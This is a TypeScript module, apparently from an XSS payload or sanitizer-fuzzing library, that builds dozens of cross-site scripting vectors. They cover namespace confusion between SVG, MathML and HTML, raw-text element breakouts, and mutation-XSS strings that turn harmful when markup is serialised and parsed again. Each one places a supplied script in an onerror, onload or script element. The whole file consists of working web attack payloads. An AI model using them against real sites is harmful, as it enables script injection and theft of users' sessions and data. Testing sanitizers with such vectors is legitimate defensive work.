import type { Vector } from './vector.ts';
import { ofKind } from './vector.ts';

/** Elements whose content is parsed by other rules in SVG and MathML than in HTML. */
const raw = ['style', 'title', 'textarea', 'noscript', 'iframe', 'xmp', 'noembed', 'noframes', 'script', 'plaintext'];
/** Ways from foreign content back to HTML. */
const points: readonly (readonly [string, string])[] = [
  ['<svg><desc>', '</desc></svg>'], ['<svg><title>', '</title></svg>'], ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<math><mtext>', '</mtext></math>'], ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'], ['<math><annotation-xml encoding="application/xhtml+xml">', '</annotation-xml></math>'],
];

const rawInForeign: Vector[] = ['svg', 'math'].flatMap((root) =>
  raw.map((name) => ({ kind: 'namespace', name: `${name} in ${root}`, make: ({ js }) => `<${root}><${name}><a id="</${name}><img src=x: onerror=${js}>"></${root}>` })));

const rawAtPoint: Vector[] = points.flatMap(([open, close]) =>
  ['style', 'noscript', 'textarea'].map((name) => ({ kind: 'namespace', name: `${name} in ${open}`, make: ({ js }) => `${open}<${name}><!--</${name}><img src=x: onerror=${js}>-->${close}` })));

/** Markup that means one thing when it is parsed, and another after it has been written out and parsed again. */
const mutations = ofKind('mutation', [
  ({ js }) => `<svg></p><style><a id="</style><img src=x: onerror=${js}>">`,
  ({ js }) => `<math><mi></p><mglyph><style><!--</style><img title="--><img src=x: onerror=${js}>">`,
  ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${js}>`,
  ({ js }) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;">`,
  ({ js }) => `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${js} src=x:>">`,
  ({ js }) => `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src=x:>">`,
  ({ js }) => `<math><mtext><malignmark><style></math><img src=x: onerror=${js}>`,
  ({ js }) => `<svg><foreignObject><math><mtext></foreignObject><style><!--</style><img title="--><img src=x: onerror=${js}>">`,
  ({ js }) => `<noscript><p title="</noscript><img src=x: onerror=${js}>">`,
  ({ js }) => `<textarea><img title="</textarea><img src=x: onerror=${js}>"></textarea>`,
  ({ js }) => `<xmp><p title="</xmp><img src=x: onerror=${js}>">`,
  ({ js }) => `<iframe><p title="</iframe><img src=x: onerror=${js}>">`,
  ({ js }) => `<noembed><p title="</noembed><img src=x: onerror=${js}>">`,
  ({ js }) => `<plaintext><p title="</plaintext><img src=x: onerror=${js}>">`,
  ({ js }) => `<select><template><style><!--</style><a rel="--></style></template></select><img id=x onerror=${js} src=x:>">`,
  ({ js }) => `<select><style></select><img src=x: onerror=${js}></style>`,
  ({ js }) => `<select><iframe></select><img src=x: onerror=${js}>`,
  ({ js }) => `<table><caption><svg><title><caption><img src=x: onerror=${js}>`,
  ({ js }) => `<table><a><table><a><style></a><img src=x: onerror=${js}></table>`,
  ({ js }) => `<a><table><td></a><img src=x: onerror=${js}></table>`,
  ({ js }) => `<p><svg><p><style><img src=x: onerror=${js}></style>`,
  ({ js }) => `<svg><p><style><g title="</style><img src=x: onerror=${js}>">`,
  ({ js }) => `<svg><br><style><g title="</style><img src=x: onerror=${js}>">`,
  ({ js }) => `<math><p></p><style><!--</style><img title="--><img src=x: onerror=${js}>">`,
  ({ js }) => `<svg><font color=x><style><a title="</style><img src=x: onerror=${js}>">`,
  ({ js }) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x: onerror=${js}>">`,
  ({ js }) => `<math><annotation-xml encoding="text/html"><svg></math><style><!--</style><img src=x: onerror=${js}>-->`,
  ({ js }) => `<h1><svg><h2></svg></h1><style><a title="</style><img src=x: onerror=${js}>">`,
  ({ js }) => `<listing>&lt;img src=x: onerror=${js}&gt;</listing>`,
  ({ js }) => `<pre>\n\n&lt;img src=x: onerror=${js}&gt;</pre>`,
  ({ js }) => `<img alt="\`\`onerror=${js} src=x:">`,
  ({ js }) => `<p title="\`><img src=x: onerror=${js}>">x</p>`,
  ({ js }) => `<a title="&quot;&gt;&lt;img src=x: onerror=${js}&gt;">x</a>`,
  ({ js }) => `<p>&lt;script&gt;${js}&lt;/script&gt;</p>`,
  ({ js }) => `<p>&amp;lt;img src=x: onerror=${js}&amp;gt;</p>`,
  ({ js }) => `<code>&lt;svg onload=${js}&gt;</code>`,
  ({ js }) => `<?php <p title="?><img src=x: onerror=${js}>">`,
  ({ js }) => `<!-- --!> <p title="--><img src=x: onerror=${js}>">`,
  ({ js }) => `<!-->-><p title="<!--<img src=x: onerror=${js}>-->">`,
  ({ js }) => `<![CDATA[ ]]><svg><![CDATA[</svg><img src=x: onerror=${js}>]]></svg>`,
  ({ js }) => `<svg><![CDATA[><img src=x: onerror=${js}>]]></svg>`,
  ({ js }) => `<ruby><rtc><rp><style></ruby><img src=x: onerror=${js}></style>`,
  ({ js }) => `<frameset><noframes></frameset><img src=x: onerror=${js}>`,
  ({ js }) => `<dialog><form method=dialog><math><mtext></form><mglyph><style></math><img src=x: onerror=${js}>`,
  ({ js }) => `<b><a></b><svg><style></a><img src=x: onerror=${js}></style>`,
]);

/** Script and handlers that stand in foreign content itself. */
const foreign = ofKind('namespace', [
  ({ js }) => `<svg><script>${js}</script></svg>`,
  ({ js }) => `<svg><script>&#x${js.charCodeAt(0).toString(16)};${js.slice(1)}</script></svg>`,
  ({ js }) => `<svg><script><![CDATA[${js}]]></script></svg>`,
  ({ js }) => `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${js}</h:script></svg>`,
  ({ js }) => `<math><script>${js}</script></math>`,
  ({ js }) => `<svg><foreignObject><body onload=${js}></foreignObject></svg>`,
  ({ js }) => `<svg><switch><g onload=${js} requiredFeatures=x></g><g onload=${js}></g></switch></svg>`,
  ({ js }) => `<svg><a><animate attributeName=href dur=1ms to="javascript:${js}" fill=freeze /><text y=9>x</text></a></svg>`,
  ({ js }) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${js}'/></svg>#x"/></svg>`,
  ({ js }) => `<svg><metadata><script>${js}</script></metadata></svg>`,
  ({ js }) => `<svg><style>*{animation:a 1ms}</style><g onanimationstart=${js} style="animation:a 1ms"></g></svg>`,
  ({ js }) => `<math><maction actiontype=toggle><mtext><img src=x: onerror=${js}></mtext></maction></math>`,
  ({ js }) => `<math><semantics><annotation-xml encoding="text/html"><script>${js}</script></annotation-xml></semantics></math>`,
  ({ js }) => `<svg/onload=${js}//`,
  ({ js }) => `<svg><svg><svg onload=${js}></svg></svg></svg>`,
]);

export const namespaces: Vector[] = [...rawInForeign, ...rawAtPoint, ...mutations, ...foreign];
